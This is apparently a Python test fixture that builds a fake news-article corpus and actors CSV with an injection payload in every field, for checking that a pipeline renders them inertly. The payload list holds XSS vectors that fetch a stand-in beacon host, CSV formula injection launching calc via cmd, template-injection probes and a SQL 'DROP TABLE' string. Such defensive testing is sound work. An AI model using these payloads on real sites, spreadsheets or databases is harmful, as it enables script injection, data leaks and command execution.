"""A story written by somebody who wants more than to be read: payloads in every field of it.

`{0}` in a payload is the address of a beacon: a server that must never be asked anything.
"""

import csv
import json
from pathlib import Path

PAYLOADS = (
    "<script>fetch('{0}/script')</script>",
    "<script src={0}/src.js></script>",
    "<img src={0}/img.png>",
    "<img src=x onerror=fetch('{0}/onerror')>",
    "<svg onload=fetch('{0}/svg')>",
    "<svg><image href={0}/svgimage /></svg>",
    "<iframe src={0}/frame></iframe>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "<object data={0}/object></object>",
    "<embed src={0}/embed>",
    "<link rel=stylesheet href={0}/link.css>",
    "<style>@import '{0}/import.css'; body{{display:none}}</style>",
    "<p style=\"background:url('{0}/style')\">p</p>",
    "<video poster={0}/poster><source src={0}/video></video>",
    "<audio src={0}/audio autoplay></audio>",
    "<details open ontoggle=fetch('{0}/toggle')>d</details>",
    "<input autofocus onfocus=fetch('{0}/focus')>",
    "<form action={0}/form><button>Send</button></form>",
    "<meta http-equiv=refresh content='0;url={0}/meta'>",
    "<base href={0}/base/>",
    "<a href={0}/a target=_self>link</a>",
    "<a href=\"javascript:fetch('{0}/js')\">link</a>",
    '<a href="data:text/html,<script>alert(1)</script>">link</a>',
    "<span style=\"position:fixed;inset:0;background:url({0}/cover)\">cover</span>",
    "</title></style></textarea></mark></p><img src={0}/closed>",
    "<b>bold</b><br><i>italic</i><sub>1</sub>",
    "&lt;img src={0}/entity&gt; &amp;amp;",
    "![picture]({0}/markdown.png)",
    "[link]({0}/markdown-link)",
    "[link](javascript:fetch('{0}/markdown-js'))",
    "<{0}/autolink> and {0}/bare and www.example.org and a@example.org",
    "[x]: {0}/reference\n\n[x]",
    "$5m to $10m",
    "$$\\href{{{0}/katex}}{{x}}$$",
    "\\(\\includegraphics{{{0}/latex}}\\)",
    "`code` ~~struck~~ **bold** __bold__ ==mark==",
    ":red[red] :blue-background[blue] :small[small] :material/home: :smile: :+1:",
    "# Heading\n- item\n1. one\n> quote\n| a | b |\n|---|---|",
    "denied \u202edemrifnoc\u202c \u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeffmark",
    "=HYPERLINK(\"{0}/formula\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "%(name)s {{0}} {{{{7*7}}}} ${{7*7}} #{{7*7}}",
    "%{{hovertext}} %{{x}} <extra>extra</extra>",
    "'; DROP TABLE events; --",
    "javascript:fetch('{0}/js-address')",
)  # fmt: skip


def payloads(beacon: str) -> list[str]:
    return [text.format(beacon) for text in PAYLOADS]


def write(folder: Path, beacon: str) -> list[str]:
    """Articles, actors and all, with a payload in every field that a stranger fills; the payloads.

    `folder` becomes a folder for `--seeds`.
    """
    found = payloads(beacon)
    count = len(found)
    (folder / "articles").mkdir(parents=True)
    actors = [("actor_id", "name", "aliases", "kind", "country")]
    for number, payload in enumerate(found):
        nation = f"{'Norl' if number % 2 else 'Sudr'}{_letters(number)}ia"
        name = f"{nation} {found[(number + 3) % count]}"
        actors.append((f"actor_{number}", name, nation, "state", ""))
        said = payload.replace("\n", " ")
        front = {
            "title": f"{found[(number + 1) % count]}",
            "publisher": f"Paper {number} {found[(number + 2) % count]}",
            "published": f"2031-05-{number % 27 + 2:02d}",
            "published_basis": "stated",
            "basis_note": found[(number + 4) % count],
            "url": f"http://example.org/{number}?q={_in_address(payload)}",
            "derived_from": found[(number + 5) % count] if number % 5 == 0 else "",
        }
        lines = [f"{key}: {json.dumps(_one_line(value))}" for key, value in front.items() if value]
        text = (
            f"{nation} signed a pact with Estmark {said} on {number % 27 + 1} May 2031.\n\n"
            f"{nation} deployed at least {4000 + number} troops {said} to the border on Monday.\n\n"
            f'"{said}" the ministry said. The army attacked the harbour of Port {said}.\n'
        )
        (folder / "articles" / f"{file_name(payload, number)}.md").write_text(
            "---\n" + "\n".join(lines) + f"\n---\n\n{text}", encoding="utf-8"
        )
    with (folder / "actors.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerows(actors)
    return found


def _letters(number: int) -> str:
    return chr(97 + number // 26) + chr(97 + number % 26)


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _in_address(payload: str) -> str:
    return "".join(char for char in payload if char.isprintable() and not char.isspace())


def file_name(payload: str, number: int) -> str:
    """The payload as far as a file may bear it and a build takes it."""
    fits = "".join(char for char in payload if char.isprintable() and char not in "/;")
    return f"{number:02d} {fits}"[:100].strip()
